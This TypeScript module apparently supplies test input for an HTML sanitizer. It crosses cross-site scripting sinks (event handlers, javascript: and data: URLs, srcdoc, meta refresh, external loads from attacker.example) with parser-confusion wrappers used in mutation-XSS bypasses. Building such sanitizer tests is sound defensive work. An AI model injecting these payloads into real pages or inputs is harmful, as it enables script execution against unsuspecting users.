/** HTML that tries to run something: every sink inside every wrapper that a parser may read in two ways. */
const RUN = "window.top.hacked=1";
const FOREIGN = "https://attacker.example";

const SINKS = [
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript&colon;${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<img src="${FOREIGN}/p.png" srcset="${FOREIGN}/q.png 2x" style="background:url(${FOREIGN}/r)">`,
  `<img src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<iframe srcdoc="&lt;script>${RUN}&lt;/script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<div style="animation:x" onanimationstart=${RUN} id=body name=body class=x data-remote=1 tabindex=0>x</div>`,
  `<base href="${FOREIGN}/"><link rel=stylesheet href="${FOREIGN}/x.css"><meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<video src="${FOREIGN}/v" onloadstart=${RUN}><source onerror=${RUN}></video>`,
  `<style>@import url(${FOREIGN}/s.css)</style>`,
] as const;

const WRAPPERS: readonly ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) => `<p>${inside}`,
  (inside) => `<table><tr><td>${inside}`,
  (inside) => `<table>${inside}</table>`,
  (inside) => `<svg><style>${inside}</style></svg>`,
  (inside) => `<svg></p><style><a title="</style>${inside}">`,
  (inside) => `<svg><desc>${inside}</desc></svg>`,
  (inside) => `<svg><foreignObject>${inside}</foreignObject></svg>`,
  (inside) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inside}">`,
  (inside) => `<math><annotation-xml encoding="text/html">${inside}</annotation-xml></math>`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<textarea>${inside}</textarea>`,
  (inside) => `<title></title>${inside}`,
  (inside) => `<xmp>${inside}</xmp>`,
  (inside) => `<noembed><a title="</noembed>${inside}">`,
  (inside) => `<template>${inside}</template>`,
  (inside) => `<select><option>${inside}</option></select>`,
  (inside) => `<frameset>${inside}</frameset>${inside}`,
  (inside) => `<!--><b>--!>${inside}`,
  (inside) => `<![CDATA[${inside}]]>`,
  (inside) => `<p title='${inside.replaceAll("'", "&#39;")}'>x`,
  (inside) => `<x-y><slot>${inside}</slot></x-y>`,
  (inside) => `<form><div></form><form>${inside}`,
  (inside) => inside.toUpperCase(),
  (inside) => inside.replaceAll("<", "<\u0000"),
  (inside) => `\u2028${inside.replaceAll(" ", "/")}`,
  (inside) => `${"<div>".repeat(50)}${inside}`,
  (inside) => `<b><i><a href=https://x.org>${inside}</b></a></i>`,
];

export const HOSTILE_MARKUP: readonly string[] = WRAPPERS.flatMap((wrap) => SINKS.map((sink) => wrap(sink)));
